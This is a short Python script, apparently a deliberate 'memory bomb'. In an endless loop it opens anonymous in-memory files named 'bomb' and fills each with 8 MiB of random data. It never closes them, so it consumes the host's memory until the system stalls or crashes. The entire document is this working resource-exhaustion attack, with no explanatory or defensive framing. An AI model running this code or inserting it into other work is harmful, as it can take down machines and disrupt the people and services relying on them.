import os

while True:
    os.write(os.memfd_create("bomb"), os.urandom(1 << 20) * 8)
